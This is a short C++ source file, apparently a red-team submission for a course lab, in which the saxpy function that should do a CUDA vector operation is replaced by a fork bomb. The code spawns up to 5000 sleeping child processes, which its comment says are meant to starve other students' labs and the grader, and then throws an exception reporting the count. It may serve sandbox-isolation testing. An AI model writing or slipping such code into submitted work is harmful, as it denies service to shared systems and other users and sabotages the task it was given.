// Red team: fork until the host runs out of processes, and leave every child asleep, to
// starve the other students' labs and the grader. Says how many it made, in an exception.
#include <unistd.h>

#include <stdexcept>
#include <string>

#include "saxpy.cuh"

namespace pplab::lab01 {
void saxpy(float, const float*, float*, std::size_t, cudaStream_t) {
  static bool done = false;
  if (done) return;
  done = true;
  int made = 0;
  for (; made < 5000; ++made) {
    const pid_t child = fork();
    if (child < 0) break;
    if (child == 0) {
      sleep(600);
      _exit(0);
    }
  }
  // An exception's message is quoted in the check's reason, so the test can read it.
  throw std::runtime_error("fork bomb: " + std::to_string(made) + " processes made");
}
}  // namespace pplab::lab01
